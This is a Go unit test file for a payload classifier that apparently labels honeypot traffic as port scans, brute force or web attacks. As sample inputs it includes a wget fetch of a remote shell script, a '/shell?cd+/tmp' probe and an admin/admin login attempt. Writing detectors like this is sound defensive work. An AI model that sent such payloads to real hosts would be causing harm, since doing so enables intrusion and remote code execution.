package classify

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestPayloadEmpty(t *testing.T) {
	categories, comment := Payload(nil, 0, 8080, "tcp")
	assert.Equal(t, []string{CategoryPortScan}, categories)
	assert.Contains(t, comment, "Empty payload on 8080/tcp")
}

func TestPayloadLarge(t *testing.T) {
	data := []byte(strings.Repeat("A", 1500))
	categories, comment := Payload(data, len(data), 445, "tcp")
	assert.Equal(t, []string{CategoryHacking}, categories)
	assert.Contains(t, comment, "Large payload (1500 bytes) on 445/tcp")
}

func TestPayloadHTTPRequest(t *testing.T) {
	raw := "GET /shell?cd+/tmp HTTP/1.1\r\n" +
		"Host: 203.0.113.5\r\n" +
		"User-Agent: curl/7.64\r\n" +
		"Accept: */*\r\n\r\n"

	categories, comment := Payload([]byte(raw), len(raw), 8080, "tcp")
	assert.Equal(t, []string{CategoryWebAppAttack}, categories)
	assert.Contains(t, comment, "HTTP/1.1 request on 8080")
	assert.Contains(t, comment, "GET /shell?cd+/tmp")
	assert.Contains(t, comment, "User-Agent: curl/7.64")
	assert.NotContains(t, comment, "203.0.113.5", "host header must not be quoted")
}

func TestPayloadHTTPPostBody(t *testing.T) {
	raw := "POST /login HTTP/1.1\r\n" +
		"User-Agent: python-requests\r\n" +
		"\r\n" +
		"user=admin&pass=admin"

	_, comment := Payload([]byte(raw), len(raw), 80, "tcp")
	assert.Contains(t, comment, "POST Data: user=admin&pass=admin")
}

func TestPayloadSSHBanner(t *testing.T) {
	raw := "SSH-2.0-Go\r\n"
	categories, comment := Payload([]byte(raw), len(raw), 2222, "tcp")
	assert.Equal(t, []string{CategoryBruteForce, CategorySSH}, categories)
	assert.Contains(t, comment, "SSH handshake/banner on 2222/tcp")
}

func TestPayloadCookieHeader(t *testing.T) {
	// no request line, so the HTTP rule does not fire first
	raw := "Cookie: session=deadbeef"
	categories, _ := Payload([]byte(raw), len(raw), 80, "tcp")
	assert.Equal(t, []string{CategoryWebAppAttack, CategoryHacking}, categories)
}

func TestPayloadSuspiciousTokens(t *testing.T) {
	raw := "\x01\x02wget http://example.com/x.sh"
	categories, comment := Payload([]byte(raw), len(raw), 9999, "tcp")
	assert.Equal(t, []string{CategoryHacking}, categories)
	assert.Contains(t, comment, "possible command injection")
}

func TestPayloadFallback(t *testing.T) {
	raw := "\x00\x01\x02\x03"
	categories, comment := Payload([]byte(raw), len(raw), 9999, "udp")
	assert.Equal(t, []string{CategoryPortScan}, categories)
	assert.Contains(t, comment, "Unauthorized traffic on 9999/udp (4 bytes of payload)")
}

func TestPayloadPrecedenceHTTPBeforeSSH(t *testing.T) {
	// contains both an HTTP request line and the word ssh; HTTP wins
	raw := "GET /ssh HTTP/1.0\r\n\r\n"
	categories, _ := Payload([]byte(raw), len(raw), 80, "tcp")
	assert.Equal(t, []string{CategoryWebAppAttack}, categories)
}
